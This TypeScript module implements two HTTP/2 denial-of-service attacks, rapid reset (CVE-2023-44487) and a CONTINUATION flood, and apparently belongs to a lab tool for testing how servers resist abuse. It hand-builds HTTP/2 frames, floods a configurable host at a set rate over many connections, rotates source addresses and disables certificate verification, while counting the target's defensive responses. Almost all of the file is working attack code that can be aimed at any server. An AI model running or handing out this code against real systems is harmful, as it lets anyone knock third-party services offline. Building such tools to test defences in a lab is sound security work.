import http2 from 'node:http2';
import tls from 'node:tls';

// HTTP/2 abuse over TLS with ALPN h2 (what browsers and bots speak to a public site): rapid reset
// (CVE-2023-44487: open a stream, cancel it at once, repeat) and CONTINUATION flood (a HEADERS frame that
// never ends, CVE-2024-27316 family). The target's certificate is the lab's throwaway one: not verified.
// A target that does not negotiate h2 refuses the session: that is counted, never hidden.

export interface H2Stats {
  sessions: number;
  /** TLS handshakes that did not end with ALPN h2 (the target offered only HTTP/1.1, or failed). */
  not_h2: number;
  session_errors: number;
  streams_opened: number;
  streams_reset: number;
  /** Streams the target answered with headers before our reset reached it. */
  streams_answered: number;
  continuation_frames: number;
  /** Sessions the target ended (GOAWAY or close) while we were still sending. */
  closed_by_target: number;
  /** GOAWAY frames received, and how many said ENHANCE_YOUR_CALM (an abuse budget spent). */
  goaway_received: number;
  goaway_enhance_your_calm: number;
  /** Median lifetime of the sessions the target closed, ms (null when none). */
  closed_session_median_ms: number | null;
}

export interface H2Attack {
  stop(): H2Stats;
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

// HPACK: indexed :method GET (2), :scheme https (7), :path / (4); literal :authority without indexing.
const HEADERS_BLOCK = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x78]);
// A literal header (new name, not indexed): x-lab-attack: 1, repeated in every CONTINUATION frame.
const JUNK = Buffer.from([0x00, 0x0c, ...Buffer.from('x-lab-attack'), 0x01, 0x31]);
const CONT_PAYLOAD = Buffer.concat(Array.from({ length: 64 }, () => JUNK));

export function startH2Attack(o: {
  kind: 'h2-rapid-reset' | 'h2-continuation';
  host: string;
  /** The target's TLS listener. */
  port: number;
  /** Streams (rapid reset) or CONTINUATION frames per second, all connections together. */
  rate: number;
  maxConnections: number;
  source: (k: number) => string;
}): H2Attack {
  const s: H2Stats = {
    sessions: 0,
    not_h2: 0,
    session_errors: 0,
    streams_opened: 0,
    streams_reset: 0,
    streams_answered: 0,
    continuation_frames: 0,
    closed_by_target: 0,
    goaway_received: 0,
    goaway_enhance_your_calm: 0,
    closed_session_median_ms: null,
  };
  let stopping = false;
  let k = 0;
  const sessions = new Set<http2.ClientHttp2Session>();
  const sockets = new Set<tls.TLSSocket>();
  const lifetimes: number[] = []; // bounded: at most MAX_LIFETIMES kept
  const MAX_LIFETIMES = 10_000;
  const closedByTarget = (openedAt: number) => {
    if (stopping) return;
    s.closed_by_target++;
    if (lifetimes.length < MAX_LIFETIMES) lifetimes.push(performance.now() - openedAt);
  };
  const perTickTotal = Math.max(1, Math.round(o.rate / 20)); // 20 ticks per second
  const tlsOptions = (addr: string) => ({
    host: o.host,
    port: o.port,
    localAddress: addr,
    servername: 'localhost',
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false, // the lab's throwaway certificate
  });

  const tickReset = () => {
    while (sessions.size < o.maxConnections && sessions.size < 1 + Math.ceil(o.rate / 200)) {
      const addr = o.source(k++);
      const openedAt = performance.now();
      const session = http2.connect(`https://${o.host}:${o.port}`, tlsOptions(addr));
      s.sessions++;
      sessions.add(session);
      session.once('connect', (_sess, socket) => {
        if ((socket as tls.TLSSocket).alpnProtocol !== 'h2') s.not_h2++;
      });
      session.on('goaway', (code: number) => {
        s.goaway_received++;
        if (code === http2.constants.NGHTTP2_ENHANCE_YOUR_CALM) s.goaway_enhance_your_calm++;
      });
      session.on('error', () => {
        s.session_errors++;
      });
      session.on('close', () => {
        sessions.delete(session);
        closedByTarget(openedAt);
      });
    }
    const list = [...sessions];
    if (list.length === 0) return;
    for (let i = 0; i < perTickTotal; i++) {
      const session = list[i % list.length];
      // Only on established sessions: streams queued on a session that never connects are not sent.
      if (session.connecting || session.closed || session.destroyed || !session.socket) continue;
      try {
        const st = session.request({ ':path': '/status', 'x-lab-attack': '1' });
        s.streams_opened++;
        st.on('error', () => {});
        st.once('response', () => {
          s.streams_answered++;
        });
        st.close(http2.constants.NGHTTP2_CANCEL);
        s.streams_reset++;
      } catch {
        s.session_errors++;
      }
    }
  };

  const tickContinuation = () => {
    while (sockets.size < Math.min(o.maxConnections, 1 + Math.ceil(o.rate / 500))) {
      const openedAt = performance.now();
      const sock = tls.connect(tlsOptions(o.source(k++)));
      s.sessions++;
      sockets.add(sock);
      sock.on('secureConnect', () => {
        if (sock.alpnProtocol !== 'h2') {
          s.not_h2++;
          sock.destroy();
          return;
        }
        sock.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
        sock.write(frame(0x4, 0, 0, Buffer.alloc(0))); // SETTINGS
        sock.write(frame(0x1, 0x1, 1, HEADERS_BLOCK)); // HEADERS, END_STREAM, no END_HEADERS
      });
      sock.on('data', () => {}); // drain SETTINGS/GOAWAY
      sock.on('error', () => {
        s.session_errors++;
      });
      sock.on('close', () => {
        sockets.delete(sock);
        closedByTarget(openedAt);
      });
    }
    const list = [...sockets].filter((x) => !x.connecting && x.writable && x.alpnProtocol === 'h2');
    if (list.length === 0) return;
    for (let i = 0; i < perTickTotal; i++) {
      const sock = list[i % list.length];
      if (sock.writableLength > 1 << 20) continue; // target stopped reading: do not buffer without bound
      sock.write(frame(0x9, 0, 1, CONT_PAYLOAD));
      s.continuation_frames++;
    }
  };

  const timer = setInterval(o.kind === 'h2-rapid-reset' ? tickReset : tickContinuation, 50);
  return {
    stop() {
      stopping = true;
      clearInterval(timer);
      for (const x of sessions) x.destroy();
      for (const x of sockets) x.destroy();
      lifetimes.sort((a, b) => a - b);
      if (lifetimes.length > 0) s.closed_session_median_ms = Math.round(lifetimes[lifetimes.length >> 1]);
      return { ...s };
    },
  };
}
